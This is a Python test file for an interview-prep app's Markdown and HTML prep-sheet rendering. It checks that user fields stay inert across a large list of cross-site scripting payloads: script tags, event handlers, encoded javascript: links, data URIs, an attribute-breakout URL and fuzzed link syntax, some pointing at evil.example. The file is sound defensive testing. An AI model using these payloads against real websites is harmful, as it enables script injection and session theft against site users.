"""The Markdown prep sheet renders inert: no script, no event handler, no `javascript:` link,
even in a renderer that passes raw HTML through and trusts every link, whatever the user wrote
in any field. The company research keeps its Markdown formatting."""

import string
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from secondround.plans.prep_sheet_html import research_html
from secondround.plans.safe_markdown import escape_inline, sanitize_markdown
from tests.support.builders import create_application, create_interviewer, create_question, create_role, create_round

# Tags and attributes a Markdown renderer makes from plain formatting, and the only ones allowed.
FORMATTING_TAGS = {
    *(f"h{n}" for n in range(1, 7)),
    *("p", "ul", "ol", "li", "blockquote", "hr", "br", "pre", "code", "a", "img"),
    *("strong", "em", "b", "i", "u", "s", "del", "sub", "sup"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
FORMATTING_ATTRIBUTES = {"href", "src", "alt", "title", "start", "class", "style"}
SAFE_SCHEMES = {"http", "https", "mailto"}

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<b onmouseover=alert(1)>bold</b>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><button>go</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<!-- a comment --><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1) 'a title')",
    "[click](\njavascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java%73cript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a]b](javascript:alert(1))",
    "![picture](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref]\n\n[ref]:\n  javascript:alert(1) "a title"',
    "[text][x]\n\n[x]: <javascript:alert(1)>",
    "- item\n\n  [in a list](javascript:alert(1))",
    "> [in a quote](javascript:alert(1))",
    "\\[escaped\\](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # Issue 15: a CommonMark escape in the scheme, in a link and in a reference definition, and
    # Unicode spaces that markdown-it-py skips before a destination (CommonMark does not).
    "[a](javascript\\:alert(1))",
    "[r]\n\n[r]: javascript\\:alert(1)",
    "[a](\u2028javascript:alert(1))",
    "[a](\u0085javascript:alert(1))",
    "[a](\u00a0javascript:alert(1))",
    "[a](java\\script:alert(1))",
    "[a](javascript&#92;:alert(1))",
    "- [r]\n\n  [r]: javascript\\:alert(1)",
    "> [r]\n>\n> [r]:\n> javascript\\:alert(1)",
    "| a | b |\n|---|---|\n| [x](javascript\\:alert(1)) | y |",
]
# One line that tries everything at once, for the short fields (at most 200 characters).
HOSTILE_LINE = "<script>alert(1)</script><img src=x onerror=alert(1)>[x](javascript:alert(1))<javascript:alert(2)>"


def permissive_markdown() -> MarkdownIt:
    """A renderer that passes raw HTML through and accepts every link: the worst a client may use."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md


class _ActiveContent(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag not in FORMATTING_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in FORMATTING_ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            elif name in ("href", "src") and value:
                # As a browser reads a URL: control characters and spaces are dropped before the scheme.
                url = "".join(c for c in value if c.isprintable() and not c.isspace()).lower()
                scheme = url.split(":", 1)[0] if ":" in url else ""
                if (
                    scheme
                    and set(scheme) <= set(string.ascii_lowercase + string.digits + "+.-")
                    and scheme not in SAFE_SCHEMES
                ):
                    self.found.append(f"<{tag} {name}={value}>")

    handle_startendtag = handle_starttag


def active_content(markdown: str) -> list[str]:
    parser = _ActiveContent()
    parser.feed(permissive_markdown().render(markdown))
    return parser.found


def test_the_permissive_renderer_would_let_everything_through():
    # The control: unsanitised, these payloads are live in this renderer.
    assert active_content("<script>alert(1)</script>") == ["<script>"]
    assert active_content("[x](&#106;avascript:alert(1))") and active_content("<a href=x onclick=alert(1)>y</a>")
    assert active_content("[r]\n\n[r]: javascript:alert(1)")


@pytest.mark.parametrize("payload", HOSTILE_MARKDOWN)
def test_hostile_research_is_inert(payload):
    assert active_content(sanitize_markdown(payload)) == []
    assert active_content(sanitize_markdown(f"Some notes\n\n{payload}\n\n**more** notes")) == []


# Pieces of link syntax, hostile schemes and the characters renderers disagree about; hypothesis
# strings them together in any order.
LINK_PIECES = [
    *("[", "]", "(", ")", "<", ">", "!", ":", "\\", "\n", "\n\n", " ", "\t", '"', "'", "`", "> ", "- ", "|"),
    *("[a](", "[r]: ", "[r]", "]: ", "](", "![i](", "[a][r]", "\n\n[r]:\n"),
    *("javascript", "javascript:", "javascript\\:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "alert(1)"),
    *("&#106;", "&#x6A;", "&colon;", "&#58;", "&#92;", "%6A", "%3A", "java\tscript:", "java\nscript:"),
    *("\u2028", "\u2029", "\u0085", "\u00a0", "\u200b", "\u3000", "\x0b", "\x0c", "\x1f", "\ufeff"),
    *("https://ok.example", "mailto:a@b.example", "#top", "/relative"),
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(LINK_PIECES), min_size=1, max_size=24).map("".join))
def test_fuzzed_link_syntax_is_inert(markdown):
    sanitized = sanitize_markdown(markdown)
    assert active_content(sanitized) == []
    assert html_active_content("<style></style>" + research_html(markdown)) == []


def test_allowed_links_survive_next_to_the_defused_ones():
    # Only the lines with a refused destination lose their link syntax.
    sanitized = sanitize_markdown("[site](https://acme.example)\n\n[a](javascript\\:alert(1))")
    html = permissive_markdown().render(sanitized)
    assert '<a href="https://acme.example">site</a>' in html and "javascript" in html
    assert active_content(sanitized) == []


def test_all_the_hostile_research_at_once_is_inert():
    assert active_content(sanitize_markdown("\n\n".join(HOSTILE_MARKDOWN))) == []


@pytest.mark.parametrize("payload", [HOSTILE_LINE, *HOSTILE_MARKDOWN])
def test_short_fields_are_escaped_to_plain_text(payload):
    escaped = escape_inline(payload)
    assert active_content(f"- **Greet them:** {escaped}") == []
    rendered = permissive_markdown().render(escaped)
    assert "<a" not in rendered and "<script" not in rendered


def test_research_keeps_its_formatting():
    research = (
        "Founded in 1999; **R&D** heavy, *remote first*.\n\n"
        "> They value ownership.\n\n"
        "- [Site](https://acme.example/about?a=1&b=2)\n"
        "- <https://acme.example/jobs>\n"
        "- Write to <b>hr</b>: [mail](mailto:hr@acme.example)\n\n"
        "`5 > 3` and 5 < 7"
    )
    html = permissive_markdown().render(sanitize_markdown(research))
    assert "<strong>R&amp;D</strong>" in html and "<em>remote first</em>" in html
    assert "<blockquote>" in html and "<b>hr</b>" in html
    assert '<a href="https://acme.example/about?a=1&amp;b=2">Site</a>' in html
    assert "https://acme.example/jobs" in html
    assert '<a href="mailto:hr@acme.example">mail</a>' in html
    assert "<code>5 &gt; 3</code> and 5 &lt; 7" in html


def test_a_hostile_prep_sheet_over_http_renders_inert(user):
    application = create_application(
        user,
        company=HOSTILE_LINE,
        position=HOSTILE_LINE,
        company_research="\n\n".join(HOSTILE_MARKDOWN),
    )
    first = create_round(user, application["id"])
    second = create_round(user, application["id"], location=HOSTILE_LINE, scheduled_at="2026-12-01T10:00:00Z")
    role = create_role(user, name=HOSTILE_LINE, goals=HOSTILE_LINE, focus={"teamwork": 1.0, "job_description": 1.0})
    for round_ in (first, second):
        create_interviewer(
            user, round_["id"], name=HOSTILE_LINE, title=HOSTILE_LINE, greeting=HOSTILE_LINE, role_id=role["id"]
        )
    asked = create_question(user, text=HOSTILE_LINE, category="teamwork", importance=5, target_role_ids=[role["id"]])
    answered = create_question(user, text=f"answered {HOSTILE_LINE}", category="teamwork")
    create_question(user, direction="expect", text=HOSTILE_LINE, category="teamwork", prepared_answer=HOSTILE_LINE)
    create_question(user, text=f"too long {HOSTILE_LINE}", category="job_description", minutes=60)
    r = user.put(f"/api/v1/rounds/{first['id']}/questions/{answered['id']}", json={"status": "answered"})
    assert r.status_code == 201, r.text

    plan = user.get(f"/api/v1/rounds/{second['id']}/plan").json()
    person = plan["interviewers"][0]
    assert asked["id"] in {q["question_id"] for q in person["questions"]}
    assert person["expect"] and plan["backlog"] and plan["excluded"]

    r = user.get(f"/api/v1/rounds/{second['id']}/prep-sheet")
    assert r.status_code == 200
    sheet = r.text
    assert active_content(sheet) == []
    # The short fields are still there for the reader, as text.
    assert sheet.count("\\<script\\>alert(1)\\</script\\>") >= 10


# The printable HTML sheet: the same hostile input, read by a browser's parser.
HTML_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "header", "section", "footer", "div", "span"),
    *("dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td"),
    *FORMATTING_TAGS - {"img"},
}
HTML_ATTRIBUTES = {"href", "class", "start", "target", "rel", "lang", "charset", "name", "content"}


class _HtmlActiveContent(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag, attrs) -> None:
        self.styles += tag == "style"
        if tag not in HTML_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in HTML_ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            elif name == "href":
                url = "".join(c for c in value or "" if c.isprintable() and not c.isspace()).lower()
                if url.split(":", 1)[0] not in {*SAFE_SCHEMES, "tel"}:
                    self.found.append(f"<{tag} href={value}>")

    handle_startendtag = handle_starttag


def html_active_content(html: str) -> list[str]:
    parser = _HtmlActiveContent()
    parser.feed(html)
    return parser.found + ([f"{parser.styles} style blocks"] if parser.styles != 1 else [])


def test_the_html_checker_sees_active_content():
    assert html_active_content("<style></style><script>x</script>") == ["<script>"]
    assert html_active_content("<style></style><a href='javascript:x' onclick=x>y</a>") == [
        "<a href=javascript:x>",
        "<a onclick>",
    ]


@pytest.mark.parametrize("payload", HOSTILE_MARKDOWN)
def test_hostile_research_is_inert_in_html(payload):
    assert html_active_content("<style></style>" + research_html(f"Notes\n\n{payload}\n\n**more**")) == []


def test_a_hostile_printable_sheet_over_http_is_inert(user):
    application = create_application(
        user, company=HOSTILE_LINE, position=HOSTILE_LINE, company_research="\n\n".join(HOSTILE_MARKDOWN)
    )
    first = create_round(user, application["id"])
    second = create_round(user, application["id"], location=HOSTILE_LINE, scheduled_at="2026-12-01T10:00:00Z")
    role = create_role(user, name=HOSTILE_LINE, goals=HOSTILE_LINE, focus={"teamwork": 1.0, "job_description": 1.0})
    # Attribute injection through a URL that the API accepts (printable ASCII, quotes included).
    breakout = 'https://evil.example/"onmouseover="alert(1)"x=\'<script>'
    for round_ in (first, second):
        create_interviewer(
            user,
            round_["id"],
            name=HOSTILE_LINE,
            title=HOSTILE_LINE,
            greeting=HOSTILE_LINE,
            role_id=role["id"],
            notes=f"{HOSTILE_LINE}\n\n" + "\n".join(HOSTILE_MARKDOWN),
            profile_url=breakout,
        )
    create_question(user, text=HOSTILE_LINE, category="teamwork", importance=5, target_role_ids=[role["id"]])
    answered = create_question(user, text=f"answered {HOSTILE_LINE}", category="teamwork")
    create_question(user, direction="expect", text=HOSTILE_LINE, category="teamwork", prepared_answer=HOSTILE_LINE)
    create_question(user, text=f"too long {HOSTILE_LINE}", category="job_description", minutes=60)
    r = user.put(
        f"/api/v1/rounds/{first['id']}/questions/{answered['id']}",
        json={"status": "answered", "answer_notes": HOSTILE_LINE},
    )
    assert r.status_code == 201, r.text

    url = f"/api/v1/rounds/{second['id']}/prep-sheet"
    html = user.get(url, headers={"Accept": "text/html"})
    assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
    assert html_active_content(html.text) == []
    # The user's text is there to read, as text.
    assert html.text.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 10
    # The URL stays one attribute value: its quotes are escaped, not closing the attribute.
    assert 'href="https://evil.example/&quot;onmouseover=&quot;alert(1)&quot;x=&#x27;&lt;script&gt;"' in html.text
    # The Markdown sheet with the same data stays inert too (notes and the breakout URL included).
    assert active_content(user.get(url).text) == []
